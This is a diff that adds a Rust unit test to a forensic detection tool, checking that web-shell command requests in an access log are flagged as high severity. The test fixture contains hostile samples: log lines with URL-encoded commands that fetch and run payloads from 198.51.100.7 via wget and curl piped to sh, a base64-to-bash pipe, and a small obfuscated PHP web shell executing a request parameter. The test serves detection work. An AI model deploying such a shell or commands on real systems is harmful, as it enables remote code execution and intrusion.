@@ -472,6 +472,46 @@ mod tests {
             && matches!(&s.subject, minetrace_schemas::findings::Subject::File { path, .. } if path.as_bytes() == b"/var/www/html/wp-content/uploads/2025/06/up.php")));
     }
 
+    /// Review of train 2, item 6: a web shell's ordinary command lines (`cd /tmp;wget ...`, `echo
+    /// <b64>|base64 -d|bash`, `ls -la;id;uname -a`, `;curl ...|sh`) are its commands: MT-ENT-001 high
+    /// with the shell the artifact, no MT-ENT-004 making it context.
+    #[test]
+    fn a_web_shells_command_lines_are_its_commands() {
+        let log: &[u8] = b"198.51.100.7 - - [10/Jun/2025:11:02:16 +0000] \"GET /uploads/s.php?c=cd+/tmp%3Bwget+http://198.51.100.7/a%3Bchmod+%2Bx+a%3B./a HTTP/1.1\" 200 0\n\
+198.51.100.7 - - [10/Jun/2025:11:02:17 +0000] \"GET /uploads/s.php?c=echo+ZWNobyBoaQ%3D%3D%7Cbase64+-d%7Cbash HTTP/1.1\" 200 0\n\
+198.51.100.7 - - [10/Jun/2025:11:02:18 +0000] \"GET /uploads/s.php?c=ls+-la%3Bid%3Buname+-a HTTP/1.1\" 200 0\n\
+198.51.100.7 - - [10/Jun/2025:11:02:19 +0000] \"GET /uploads/s.php?c=%3Bcurl+-s+http://198.51.100.7/b%7Csh HTTP/1.1\" 200 0\n";
+        let model = fixture::model(
+            vec![
+                fixture::file(b"/var/log/nginx/access.log", Some(log)),
+                fixture::file(
+                    b"/var/www/html/uploads/s.php",
+                    Some(b"<?php $x = 'sys' . 'tem'; $x(str_rot13($_REQUEST['c'])); ?>\n"),
+                ),
+            ],
+            vec![],
+        );
+        let iocs = Indicators::builtin();
+        let found = detect(&Context {
+            model: &model,
+            iocs: &iocs,
+        });
+        assert_eq!(found.len(), 1, "{found:#?}");
+        let f = &found[0];
+        assert_eq!(
+            (f.rule.as_str(), f.severity),
+            ("MT-ENT-001", Severity::High)
+        );
+        assert_eq!(
+            f.evidence.first().map(String::as_str),
+            Some("4 request(s) to /uploads/s.php carried a shell command")
+        );
+        assert!(
+            f.subjects.iter().all(|s| s.role == Role::Artifact),
+            "{f:#?}"
+        );
+    }
+
     /// An injection into an application's page is evidence of how the attacker tried to get in, never a
     /// web shell: low, the page a context subject (a remediation leaves it), and the download it carried
     /// is no MT-ENT-001 making the page an artifact.
